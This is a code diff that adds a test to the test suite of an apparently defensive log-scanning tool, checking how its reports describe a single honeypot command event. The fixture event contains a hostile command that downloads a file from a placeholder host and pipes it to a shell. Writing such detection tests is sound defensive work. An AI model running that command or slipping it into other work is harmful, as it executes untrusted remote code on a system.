@@ -87,6 +87,16 @@ def test_alerts_are_in_the_other_reports_too(run: Run, log: Path, kind: str) -> 
     assert "RF-AUTH-BRUTE-FORCE" in result.stdout
 
 
+def test_reports_on_other_events_say_nothing_of_answers(run: Run, tmp_path: Path) -> None:
+    row = {"eventid": "cowrie.command.input", "input": "wget http://x.example/a|sh", "session": "s"}
+    (tmp_path / "c.json").write_text(json.dumps(row), "utf-8")
+    text = run("scan", "--rules", "builtin", "c.json").stdout
+    page = run("scan", "--rules", "builtin", "c.json", "--format", "html").stdout
+    assert "1 hit: 27 rules over 1 auth_log event." in text
+    assert "the answer" not in text
+    assert "What the answers say" not in page
+
+
 def test_a_window_leaves_events_out(run: Run, log: Path) -> None:
     result = run("scan", "--rules", "builtin", log, "--since", "2099-03-04T05:06:06Z", "--format", "json")
     report = json.loads(result.stdout)["report"]
